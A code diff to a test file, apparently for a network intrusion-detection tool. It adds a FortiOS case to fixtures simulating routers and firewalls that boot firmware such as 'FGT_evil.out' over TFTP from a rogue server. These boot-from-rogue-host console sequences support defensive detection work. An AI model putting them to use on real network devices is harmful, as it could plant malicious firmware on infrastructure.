@@ -54,16 +54,19 @@ def bw07_consoles(wire: Wire) -> None:
         ("BW07", 1542007380, "10.0.1.31", ADMIN),
         ("BW07", 1542007382, "10.0.1.32", ADMIN),
         ("BW07", 1542007381, "10.0.1.33", ADMIN),
+        ("BW07", 1542007383, "10.0.1.34", ADMIN),
     ],
     site=HQ,
-    with_site=Expect((command(31), command(32, "evil.img"), command(33, "asa.bin"))),
+    with_site=Expect((command(31), command(32, "evil.img"), command(33, "asa.bin"), command(34, "FGT_evil.out"))),
 )
 def bw07_loaders_say(wire: Wire) -> None:
-    """Nobody types anything: the loaders of IOS-XE, U-Boot and ASA say from where they load by themselves."""
+    """The loaders of IOS-XE, U-Boot and ASA say from where they load by themselves; FortiOS' boot menu asks."""
+    menu = f"Enter TFTP server address [192.168.1.168]: {ROGUE}\r\nEnter local address [192.168.1.188]: 10.0.1.34"
     for last, output in (
         (31, f"Receiving evil.bin from {ROGUE} !!!!!!"),
         (32, f"TFTP from server {ROGUE}; our IP address is 10.0.1.32\r\nFilename 'evil.img'.\r\nLoading: ####"),
         (33, f"tftp asa.bin@{ROGUE} via 10.0.1.254"),
+        (34, f"{menu}\r\nEnter firmware image file name [image.out]: FGT_evil.out"),
     ):
         session = Telnet(wire, ADMIN, f"10.0.1.{last}")
         session.tcp.reply(f"\r\nBooting\r\n{output}\r\ndone\r\n".encode())
@@ -106,6 +109,9 @@ def bw07_local_boots(wire: Wire) -> None:
     console(wire, 27, "ProCurve# ", ("boot set-default flash primary", ""), ("show flash", ""))
     console(wire, 28, "leaf1#", ("zerotouch cancel", ""), ("boot system flash:EOS.swi", ""))
     console(wire, 29, "[admin@mt1] > ", ("/system routerboard settings set boot-device=nand-only", ""))
+    console(
+        wire, 31, "Enter G,F,I,Q,or H: ", ("H", "Enter TFTP server address [192.168.1.168]: \nEnter Selection [G]:")
+    )
     console(wire, 30, "$ ", (f"tftp {ROGUE}", "tftp> "), ("dhcp -v eth0", ""), ("load average", ""))
 
 
